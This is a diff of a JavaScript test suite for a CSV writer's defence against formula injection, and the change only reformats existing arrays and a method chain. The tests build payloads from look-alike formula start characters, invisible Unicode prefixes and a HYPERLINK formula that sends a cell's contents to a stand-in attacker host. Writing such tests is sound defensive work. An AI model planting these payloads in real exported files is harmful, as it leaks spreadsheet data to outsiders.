@@ -44,7 +44,27 @@ describe('the CSV writer', () => {
  */
 describe('issue 9: CSV formula injection', () => {
   const FORMULA_STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '⁼', '₊'];
-  const HIDDEN_PREFIXES = ['', ' ', '   ', '\t', '\r', '\n', '\u00a0', '\u2002', '\u3000', '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u202e', '\u00ad', ' \u200b\u00a0', '"', '" '];
+  const HIDDEN_PREFIXES = [
+    '',
+    ' ',
+    '   ',
+    '\t',
+    '\r',
+    '\n',
+    '\u00a0',
+    '\u2002',
+    '\u3000',
+    '\u200b',
+    '\u200c',
+    '\u200d',
+    '\u2060',
+    '\ufeff',
+    '\u202e',
+    '\u00ad',
+    ' \u200b\u00a0',
+    '"',
+    '" ',
+  ];
   const SEPARATORS = [',', ';', '\t', '|', '\r', '\n', '\r\n'];
   const BODY = 'HYPERLINK("http://evil.test/?x="&A1,"bấm")';
 
@@ -66,7 +86,10 @@ describe('issue 9: CSV formula injection', () => {
   }
 
   it.each(payloads.map((p) => [JSON.stringify(p), p]))('neutralises %s', (_label, payload) => {
-    const line = toCsv(['x', 'y'], [['PAKN-2026-000001', payload]]).split('\r\n').slice(1).join('\r\n');
+    const line = toCsv(['x', 'y'], [['PAKN-2026-000001', payload]])
+      .split('\r\n')
+      .slice(1)
+      .join('\r\n');
     for (const field of fieldStarts(line)) expect(startsFormula(field), `${JSON.stringify(line)} → ${JSON.stringify(field)}`).toBe(false);
   });
 
